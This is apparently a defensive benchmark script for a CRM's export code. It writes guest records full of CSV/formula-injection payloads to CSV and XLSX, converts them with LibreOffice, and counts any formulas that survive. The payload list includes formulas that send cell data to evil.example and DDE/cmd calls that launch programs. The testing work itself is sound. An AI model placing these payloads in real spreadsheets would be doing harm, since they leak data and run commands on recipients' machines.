"""Formulas in exported files, opened by a real spreadsheet: how many of hundreds of attacks become one.

``python -m benchmarks.injection`` writes guests whose texts are attacks (OWASP, CSV Injection, and what spreadsheets
make of odd beginnings) as CSV and as a workbook, has LibreOffice turn each into its own flat XML, and counts the cells
with a formula in that. A file of the same texts that nothing was done to shows that the measure can tell. Prints JSON;
ends with 1 when there is a formula, or when LibreOffice is not there.
"""

import argparse
import csv
import itertools
import json
import re
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path
from typing import Any, Final

BEGINNINGS: Final = (
    "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "\ufeff=", "'=", "''=", '"=', "=+", "-=", "+-=", "@=",
    ";=", ",=", "\x00=", "\x0b=", "\uff1d", "\uff0b", "\uff0d", "\uff20",
)  # fmt: skip
FORMULAS: Final = (
    "1+1",
    "1",
    "A1",
    "SUM(1,2)",
    "SUM(A1:A9)",
    "NOW()",
    "IF(1=1,2,3)",
    'INDIRECT("A1")',
    "{=1+1}",
    "of:=1+1",
    "1;=1+1",
    "1\n=1+1",
    'HYPERLINK("http://evil.example?x="&A1,"Click")',
    'IMPORTXML(CONCAT("http://evil.example?v=",A1),"//a")',
    'WEBSERVICE("http://evil.example")',
    'DDE("cmd";"/C calc";"!A0")',
    "cmd|' /C calc'!A0",
    "2+5+cmd|' /C calc'!A0",
    "10+20+cmd|' /C calc'!A0",
    "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
)
PAYLOADS: Final = [start + rest for start, rest in itertools.product(BEGINNINGS, FORMULAS)]
_FORMULA: Final = re.compile(r'table:formula="([^"]{0,80})')


def measured() -> dict[str, Any]:
    """Write, convert, count."""
    program = shutil.which("soffice") or shutil.which("libreoffice")
    if program is None:
        return {"error": "LibreOffice is not installed."}
    with tempfile.TemporaryDirectory() as folder:
        place = Path(folder)
        files = _written(place)
        found = {path.name: _formulas(program, path, place) for path in files}
    control = found.pop("control.csv")
    return {
        "payloads": len(PAYLOADS),
        "formulas": {name: len(formulas) for name, formulas in found.items()},
        "examples": {name: formulas[:5] for name, formulas in found.items() if formulas},
        "formulas_of_the_same_texts_unguarded": len(control),
        "held": not any(found.values()) and bool(control),
    }


def _written(place: Path) -> list[Path]:
    """Guests with an attack in two cells each, as the export writes them; and the same texts as they are."""
    from customers.export.catalogue import TEXT, Column
    from customers.export.csv_out import CsvOut
    from customers.export.look import Look
    from customers.export.xlsx_out import XlsxOut

    columns = [Column(key, key, "who", "", type=TEXT) for key in ("number", "given_name", "note")]
    rows = [(str(place), payload, f"{payload} ") for place, payload in enumerate(PAYLOADS)]
    files = []
    for name, delimiter in (("semicolon.csv", ";"), ("comma.csv", ","), ("tab.csv", "\t")):
        files.append(place / name)
        with files[-1].open("wb") as target:
            out = CsvOut(target, columns, Look(delimiter=delimiter))
            out.header(["number", "=given_name()", "note"])
            out.rows(rows)
    files.append(place / "workbook.xlsx")
    with files[-1].open("wb") as target:
        book = XlsxOut(target, columns, title="Guests")
        book.header(["number", "=given_name()", "note"])
        book.rows(rows)
        book.close()
    files.append(place / "control.csv")
    with files[-1].open("w", encoding="utf-8-sig", newline="") as target:
        csv.writer(target, delimiter=";").writerows(rows)
    return files


_DELIMITERS: Final = {"semicolon": "59", "comma": "44", "tab": "9", "control": "59"}


def _formulas(program: str, path: Path, place: Path) -> list[str]:
    """The formulas that LibreOffice finds in a file. Formulas in CSV are evaluated, as a double click does."""
    options = []
    if path.suffix == ".csv":
        # Delimiter, quotation mark, UTF-8, first line, columns, language, quoted fields are no text, numbers are told;
        # the thirteenth: formulas are evaluated.
        tokens = [_DELIMITERS[path.stem], "34", "76", "1", "", "1033", "false", "true", "", "", "", "", "true"]
        options = [f"--infilter=Text - txt - csv (StarCalc):{','.join(tokens)}"]
    profile = f"-env:UserInstallation=file://{place / 'profile'}"
    subprocess.run(
        [program, profile, "--headless", *options, "--convert-to", "fods", "--outdir", str(place), str(path)],
        check=True,
        capture_output=True,
        timeout=300,
    )
    return _FORMULA.findall((place / f"{path.stem}.fods").read_text(encoding="utf-8"))


def main() -> None:
    """Measure and print."""
    argparse.ArgumentParser(description=__doc__).parse_args()
    import os

    import django

    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "crm.settings")
    django.setup()
    found = measured()
    print(json.dumps(found, indent=2, ensure_ascii=False))
    sys.exit(0 if found.get("held") else 1)


if __name__ == "__main__":
    main()
